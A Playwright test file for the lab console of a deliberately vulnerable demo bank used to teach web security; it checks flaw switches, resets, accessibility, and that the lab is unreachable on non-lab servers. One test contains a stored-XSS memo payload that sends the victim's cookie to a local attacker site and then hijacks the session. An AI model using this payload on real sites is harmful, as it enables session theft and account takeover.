// Threat: the lab's own tool turned against a real bank. A console or a switch reachable on a
// server that is not a lab would let anyone turn its defenses off; a switch that reached only
// some browsers, or a stale banner, would make a class watch the wrong thing. Defense: lab mode
// is LAB_ALLOW=1 (`npm run lab`); elsewhere /lab, its inbox and its server actions answer 404
// and change nothing (proxy.ts, lib/lab/guard.ts), and no switch is even read. In a lab, a
// switch is written to the database and to the process-wide copy flawOn() reads, so the next
// request of every browser meets it, the banner included. The attacker's site is another site
// (127.0.0.1); its captures reach the console's inbox through a same-origin route.
import { request as playwrightRequest, type Browser, type BrowserContext, type Page } from "@playwright/test";
import { type AttackerSite } from "../scripts/attacker-site";
import { labKeyUrl } from "@/lib/lab/key";
import { expectAccessible } from "./support/accessibility";
import { type OwnServer } from "./support/direct-server";
import {
  accountLink,
  expect,
  fillTransfer,
  SESSION_COOKIE,
  sessionCookieValue,
  signInWithForm,
  test,
} from "./support/fixtures";
import { serverUrl } from "./support/servers";

// Seeded into every fresh lab database (prisma/seed.ts).
const ALICE = {
  email: "alice@vaultline.test",
  password: "alice-demo-pass-1",
  name: "Alice Archer",
  accountNumber: "VL-1001-0001",
};
const MALLORY = { email: "mallory@vaultline.test", password: "mallory-demo-pass-1" };
const BOB = {
  email: "bob@vaultline.test",
  password: "bob-demo-pass-1",
  accountNumber: "VL-1002-0001",
  seededCents: 436_501,
};

function banner(page: Page) {
  return page.getByRole("note", { name: "Lab mode" });
}

/** The banner's warning that a defense is off (with every one on it only announces outcomes). */
function insecureWarning(page: Page) {
  return banner(page).getByText("LAB MODE — insecure on purpose.");
}

function flawSwitch(trainer: Page, name: string) {
  return trainer.getByRole("switch", { name, exact: true });
}

/** Clicks a flaw's switch in the console and waits for it to show the new state. */
async function toggle(trainer: Page, name: string, on: boolean): Promise<void> {
  await expect(flawSwitch(trainer, name)).toHaveAttribute("aria-checked", String(!on));
  await flawSwitch(trainer, name).click();
  await expect(flawSwitch(trainer, name)).toHaveAttribute("aria-checked", String(on));
}

async function scriptCanReadSession(page: Page): Promise<boolean> {
  const token = await sessionCookieValue(page);
  return !!token && (await page.evaluate(() => document.cookie)).includes(token);
}

test.describe("the lab console on a lab server", () => {
  // One lab server and attacker's site for the group; the tests run in order on its switches.
  // Each drives two or three browsers through real sign-ins (bcrypt at the test servers' cost).
  test.describe.configure({ mode: "default", timeout: 90_000 });
  let server: OwnServer;
  let attacker: AttackerSite;
  let contexts: BrowserContext[] = [];

  // The group's helpers below reach the lab server and the attacker's site through these.
  test.beforeAll(async ({ ownServer }, testInfo) => {
    testInfo.setTimeout(120_000);
    server = await ownServer({ name: "lab", database: "sqlite", flaws: "", lab: true, attackerSite: true });
    attacker = server.attacker!;
  });
  test.afterEach(async ({ browser }) => {
    const trainer = await openConsole(browser);
    await trainer.getByRole("button", { name: "Restore every defense" }).click();
    await expect(trainer.getByText(/^0 of \d+ defenses switched off/)).toBeVisible();
    await Promise.all(contexts.map((c) => c.close()));
    contexts = [];
  });

  /** A browser of its own (the trainer's, the victim's, the attacker's), on the lab server. */
  async function browserWindow(browser: Browser): Promise<Page> {
    const context = await browser.newContext({ baseURL: server.baseURL });
    contexts.push(context);
    return context.newPage();
  }

  async function openConsole(browser: Browser): Promise<Page> {
    const trainer = await browserWindow(browser);
    // The address `npm run lab` prints: the console asks a browser for the key once.
    await trainer.goto(labKeyUrl(server.baseURL, server.labKey));
    await expect(trainer.getByRole("heading", { name: "Lab console" })).toBeVisible();
    return trainer;
  }

  test("a switch reaches another browser at once: its banner, and a session cookie script can read", async ({
    browser,
  }) => {
    const trainer = await openConsole(browser);
    const victim = await browserWindow(browser);
    await signInWithForm(victim, BOB);
    await expect(insecureWarning(victim)).toBeHidden();
    expect(await scriptCanReadSession(victim)).toBe(false);

    await toggle(trainer, "readable-cookie", true);
    expect(await server.db.labFlaw.findUnique({ where: { name: "readable-cookie" } })).toMatchObject({ enabled: true });
    await victim.reload();
    await expect(banner(victim)).toContainText("readable-cookie");
    // HttpOnly is decided when a cookie is issued: the next sign-in's cookie is readable.
    await signInWithForm(victim, BOB);
    expect(await scriptCanReadSession(victim)).toBe(true);

    await toggle(trainer, "readable-cookie", false);
    await victim.reload();
    await expect(insecureWarning(victim)).toBeHidden();
    await signInWithForm(victim, BOB);
    expect(await scriptCanReadSession(victim)).toBe(false);
  });

  test("a switch changes what the proxy sends too: Cache-Control follows no-cache-control", async ({ browser }) => {
    const trainer = await openConsole(browser);
    const victim = await browserWindow(browser);
    // Asked afresh each time: with the flaw on, the browser would answer from its cache.
    const cacheControl = async () => (await victim.context().request.get("/signin")).headers()["cache-control"];
    expect(await cacheControl()).toBe("no-store");
    await toggle(trainer, "no-cache-control", true);
    expect(await cacheControl()).toBe("private, max-age=600");
    await toggle(trainer, "no-cache-control", false);
    expect(await cacheControl()).toBe("no-store");
  });

  test("the XSS demo: a memo's payload sends the victim's cookie to the attacker's inbox, and the attacker uses it", async ({
    browser,
  }) => {
    const trainer = await openConsole(browser);
    // All three layers down, as the demo takes them: escaping, the CSP, HttpOnly.
    for (const flaw of ["stored-xss", "no-csp", "readable-cookie"]) await toggle(trainer, flaw, true);

    // Mallory pays Alice a dollar; the memo is the payload (an <img>'s handler runs wherever the
    // markup lands, a <script> only in a page's first HTML).
    const mallory = await browserWindow(browser);
    await signInWithForm(mallory, MALLORY);
    const payload = `<img src=x onerror="new Image().src='${attacker.url}/steal?c='+encodeURIComponent(document.cookie)">`;
    await fillTransfer(mallory, { accountNumber: ALICE.accountNumber }, "1.00", payload);
    await mallory.getByRole("button", { name: "Send transfer" }).click();
    await expect(mallory).toHaveURL(/\/transfers\/\w+/);

    const victim = await browserWindow(browser);
    await signInWithForm(victim, ALICE);
    await accountLink(victim, /Checking/).click();

    // (Mallory's own receipt ran the memo too: her own cookie is in the inbox first.)
    const stolen = (await sessionCookieValue(victim))!;
    await expect(trainer.getByRole("list", { name: "Captures" })).toContainText(`${SESSION_COOKIE}=${stolen}`);

    // Mallory's view on her own site opens the bank with it: no DevTools.
    await mallory.goto(`${attacker.url}/view`);
    await mallory.getByRole("link", { name: "Open the bank with it" }).first().click();
    const seen = mallory.getByRole("region", { name: "What the bank showed Mallory" });
    await expect(seen).toContainText("In as the victim");
    await expect(seen).toContainText(`Welcome, ${ALICE.name}`);
    await expect(seen).toContainText(ALICE.accountNumber);
  });

  test("a session leaked from the victim's window opens the bank in Mallory's view, until the victim signs out", async ({
    browser,
  }) => {
    const victim = await browserWindow(browser);
    await signInWithForm(victim, ALICE);
    await victim.getByRole("button", { name: "Leak this session to Mallory" }).click();
    await expect(victim.getByText("Sent to the attacker's inbox")).toBeVisible();

    const mallory = await browserWindow(browser);
    const seen = mallory.getByRole("region", { name: "What the bank showed Mallory" });
    const openWithLeak = async () => {
      await mallory.goto(`${attacker.url}/view`);
      await mallory.getByRole("link", { name: "Open the bank with it" }).first().click();
    };
    await openWithLeak();
    await expect(seen).toContainText(`Welcome, ${ALICE.name}`);

    await victim.getByRole("button", { name: "Sign out" }).first().click();
    await expect(victim).toHaveURL(/\/signin/);
    await openWithLeak();
    await expect(seen).toContainText("Refused");
    await expect(seen).not.toContainText(ALICE.accountNumber);
  });

  test("time travel shows in the victim's open window at once: the warning, then the sign-out", async ({ browser }) => {
    const trainer = await openConsole(browser);
    const victim = await browserWindow(browser);
    await signInWithForm(victim, BOB);
    await victim.goto("/transfers");
    const warning = victim.getByRole("dialog", { name: "Are you still there?" });
    await expect(victim.getByRole("heading", { name: "Transfer money", level: 1 })).toBeVisible();
    await expect(warning).toBeHidden();

    // The victim's window is not touched: it follows the console by itself.
    await trainer.getByRole("button", { name: /Every session near its high-tier sign-out/ }).click();
    await expect(trainer.getByRole("status")).toContainText("shows the warning");
    await expect(warning).toBeVisible();
    await trainer.getByRole("button", { name: /Every session idle past the high tier/ }).click();
    await expect(trainer.getByRole("status")).toContainText("idle past the high tier");
    await expect(victim).toHaveURL(/\/signin\?reason=idle/);
  });

  test("reset restores the demo data, ends every session and empties the inbox", async ({ browser }) => {
    const trainer = await openConsole(browser);
    const victim = await browserWindow(browser);
    await signInWithForm(victim, BOB);
    await fillTransfer(victim, { accountNumber: "VL-1001-0001" }, "100.00");
    await victim.getByRole("button", { name: "Send transfer" }).click();
    await expect(victim).toHaveURL(/\/transfers\/\w+/);
    const bob = () => server.db.account.findUniqueOrThrow({ where: { number: BOB.accountNumber } });
    expect((await bob()).balanceCents).toBe(BOB.seededCents - 10_000);
    await fetch(`${attacker.url}/steal?c=before-reset`);
    await expect(trainer.getByRole("list", { name: "Captures" })).toContainText("before-reset");

    await trainer.getByRole("button", { name: "Reset demo data" }).click();
    // The reset hashes the four demo passwords again, at bcrypt's real cost.
    await expect(trainer.getByRole("status")).toHaveText(
      "Demo data restored: every session ended, the inbox and the score board emptied.",
      { timeout: 20_000 },
    );
    expect((await bob()).balanceCents).toBe(BOB.seededCents);
    expect(await server.db.transfer.count()).toBe(0);
    expect(await server.db.session.count()).toBe(0);
    await expect(trainer.getByRole("list", { name: "Captures" })).toHaveText("Nothing captured yet.");
    // A new tab with the victim's cookie: the old tab may be on its way to sign-in already, its
    // status poll having seen the session end, and a second navigation would race that one.
    const again = await victim.context().newPage();
    await again.goto("/dashboard");
    await expect(again).toHaveURL(/\/signin/);
  });

  test("every flaw has its page: its seed, demo, expected result and the code of its defense; axe at a laptop's width and a phone's", async ({
    browser,
  }) => {
    const trainer = await openConsole(browser);
    await trainer.getByRole("link", { name: "readable-cookie", exact: true }).click();
    await expect(trainer.getByRole("heading", { name: "Lab: readable-cookie", level: 1 })).toBeVisible();
    const card = trainer.getByRole("article", { name: "readable-cookie", exact: true });
    await expect(card.getByRole("blockquote")).toContainText("HttpOnly flag");
    await expect(card.getByText(/lib\/session\/cookies\.ts:\d+/)).toBeVisible();
    await expect(card.locator("pre mark")).toContainText("// LAB FLAW readable-cookie");
    // Every line of the excerpt on a line of its own, from the left edge: the defense's line
    // right after the marker was once pushed out of view by the highlight.
    const listing = card.locator("pre").first();
    await expect(listing).toContainText('httpOnly: !flawOn("readable-cookie")');
    const lines = await listing
      .locator("code > *")
      .evaluateAll((all) =>
        all.map((line) => line.getBoundingClientRect()).map(({ left, top, bottom }) => ({ left, top, bottom })),
      );
    expect(lines.length).toBeGreaterThan(3);
    for (const [i, line] of lines.entries()) {
      expect(line.left, `line ${i + 1} starts at the left edge`).toBe(lines[0]!.left);
      if (i > 0)
        expect(line.top, `line ${i + 1} is below the one before`).toBeGreaterThanOrEqual(lines[i - 1]!.bottom - 1);
    }
    await expect(card.getByRole("listitem").first()).toContainText("sign in as alice@vaultline.test");
    await expectAccessible(trainer, "a flaw's page");
    // At a phone's width (390×844) too, as e2e/accessibility.spec.ts checks the bank's pages.
    await trainer.setViewportSize({ width: 390, height: 844 });
    await expectAccessible(trainer, "a flaw's page at 390×844");
    await trainer.goto("/lab");
    await expectAccessible(trainer, "lab console at 390×844");
    await trainer.setViewportSize({ width: 1280, height: 800 });
    await expectAccessible(trainer, "lab console");
  });

  test("on a projector (1280×720): the newest outcome in the first screen, the board at 16 px or more, nothing sideways", async ({
    browser,
  }) => {
    const trainer = await openConsole(browser);
    await trainer.setViewportSize({ width: 1280, height: 720 });
    await trainer.goto("/lab");
    // The room reads the announcement without anyone scrolling, and the board from the back.
    await expect(trainer.getByRole("log", { name: "Latest attack" })).toBeInViewport();
    const sizes = await trainer
      .getByRole("table", { name: "Score board" })
      .getByRole("cell")
      .evaluateAll((cells) => cells.map((cell) => parseFloat(getComputedStyle(cell).fontSize)));
    expect(sizes.length).toBeGreaterThan(0);
    expect(Math.min(...sizes), "the smallest text of the board's cells, in px").toBeGreaterThanOrEqual(16);
    const sideways = await trainer.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
    expect(sideways, "sideways scrolling").toBeLessThanOrEqual(0);
    await expectAccessible(trainer, "lab console at 1280×720");
  });

  test("a forged switch on a server that is not a lab changes nothing", async ({
    browser,
    page,
    db,
    user,
    signInAs,
  }) => {
    test.skip(!!process.env.MUTATE_FLAWS, "MUTATE_FLAWS makes the secure server a lab");
    // A real switch, as the console's page sends it (a fetch naming the action), captured on a
    // lab: the same build runs everywhere, so the same request means the same action anywhere.
    const trainer = await openConsole(browser);
    const sent = trainer.waitForRequest((r) => r.method() === "POST" && !!r.headers()["next-action"]);
    await toggle(trainer, "readable-cookie", true);
    const real = await sent;
    // The same action as a plain form posts it (no JavaScript): the field naming it is in the page.
    const form = flawSwitch(trainer, "fixation").locator("xpath=ancestor::form");
    const actionField = (await form.locator("input[name^='$ACTION_ID_']").getAttribute("name"))!;
    const formPost = { [actionField]: "", flaw: "fixation", enabled: "on" };

    const secure = await playwrightRequest.newContext({
      baseURL: serverUrl("secure"),
      extraHTTPHeaders: { Origin: serverUrl("secure") },
    });
    try {
      const replayed = await secure.post("/lab", {
        headers: { "Next-Action": real.headers()["next-action"]!, "Content-Type": real.headers()["content-type"]! },
        data: real.postDataBuffer()!,
      });
      expect(replayed.status()).toBe(404);
      expect((await secure.post("/lab", { multipart: formPost })).status()).toBe(404);
    } finally {
      await secure.dispose();
    }
    expect(await db.labFlaw.count(), "nothing was written").toBe(0);
    await signInAs(page, user);
    await page.goto("/dashboard");
    expect(await scriptCanReadSession(page), "the cookie is still HttpOnly").toBe(false);

    // The form post is well-formed: on the lab it does switch.
    const lab = await playwrightRequest.newContext({
      baseURL: server.baseURL,
      extraHTTPHeaders: { Origin: server.baseURL },
    });
    await lab.get(labKeyUrl(server.baseURL, server.labKey));
    await lab.post("/lab", { multipart: formPost });
    await lab.dispose();
    expect(await server.db.labFlaw.findUnique({ where: { name: "fixation" } })).toMatchObject({ enabled: true });
  });
});

test("the lab console, its inbox and its actions do not exist on a server that is not a lab", async ({ request }) => {
  test.skip(!!process.env.MUTATE_FLAWS, "MUTATE_FLAWS makes the secure server a lab");
  for (const path of ["/lab", "/lab/inbox"]) {
    expect((await request.get(path)).status(), path).toBe(404);
  }
});
